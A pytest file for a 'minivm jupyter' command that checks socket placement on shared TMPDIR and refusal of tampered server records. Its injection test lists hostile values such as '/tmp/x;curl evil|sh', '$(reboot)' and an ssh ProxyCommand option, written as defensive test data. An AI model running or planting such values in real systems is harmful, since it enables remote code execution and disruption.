"""The batch script of `minivm jupyter`, and what the command believes of its record."""

from __future__ import annotations

import json
import os
import shlex
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from init import jupyter_cli
from init.errors import InitError
from tests.waiting import until

SERVER = f"""#!{sys.executable}
import signal, socket, sys
(path,) = [word.partition("=")[2] for word in sys.argv if word.startswith("--ServerApp.sock=")]
listening = socket.socket(socket.AF_UNIX)
listening.bind(path)
listening.listen()
signal.pause()
"""
GOOD = {"node": "w0", "socket": "/tmp/tmp.Xy12/jupyter.sock", "token": "4ab1", "page": "lab"}


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path))
    return tmp_path


def test_the_socket_is_where_no_other_user_can_listen_first(tmp_path: Path) -> None:
    """TMPDIR of the user's session, such as /tmp, is also that of the job: other users may write there."""
    shared, server = tmp_path / "shared", tmp_path / "jupyter-lab"
    shared.mkdir()
    shared.chmod(0o1777)
    server.write_text(SERVER)
    server.chmod(0o755)
    state = jupyter_cli.state_directory()
    script = jupyter_cli.SCRIPT.format(record=shlex.quote(str(state)), server=shlex.quote(str(server)), page="lab")
    env = os.environ | {"TMPDIR": str(shared), "SLURM_JOB_ID": "7", "SLURMD_NODENAME": "w0"}
    with (
        socket.socket(socket.AF_UNIX) as anothers,
        subprocess.Popen(["/bin/bash", "-c", script], env=env, start_new_session=True) as job,
    ):
        anothers.bind(str(shared / "jupyter.sock"))
        try:
            until(lambda: jupyter_cli.read_server("7"), "the server is recorded")
            recorded = jupyter_cli.read_server("7")
            assert recorded is not None and recorded.node == "w0" and len(recorded.token) == 48
            directory = Path(recorded.socket).parent
            assert directory != shared and directory.stat().st_mode & 0o777 == 0o700
        finally:
            job.terminate()
        assert job.wait(120) == 143
    assert not jupyter_cli.find_record("7").exists() and [path.name for path in shared.iterdir()] == ["jupyter.sock"]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("socket", "/tmp/x;curl evil|sh"),
        ("socket", "relative"),
        ("node", "-oProxyCommand=x"),
        ("node", "$(reboot)"),
        ("token", "a\x1b[2J"),
        ("page", "lab&x"),
    ],
)
def test_a_record_that_a_shell_would_read_otherwise_is_refused(key: str, value: str) -> None:
    """Root of a worker may write it; the user copies the command that is printed."""
    file = jupyter_cli.state_directory() / "jupyter-7.json"
    file.write_text(json.dumps(GOOD))
    assert jupyter_cli.read_server("7") is not None
    file.write_text(json.dumps({**GOOD, key: value}))
    with pytest.raises(InitError, match="characters that a shell"):
        jupyter_cli.read_server("7")


def test_a_pipe_or_a_node_s_strange_address_holds_up_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    os.mkfifo(jupyter_cli.state_directory() / "jupyter-7.json")
    assert jupyter_cli.read_server("7") is None
    for address, shown in (("10.0.0.7", "10.0.0.7"), ("$(reboot)", "w0"), ("", "w0")):
        monkeypatch.setattr(jupyter_cli, "slurm", lambda *_, text=address: f"NodeName=w0 NodeAddr={text} x")
        assert jupyter_cli.find_address("w0") == shown
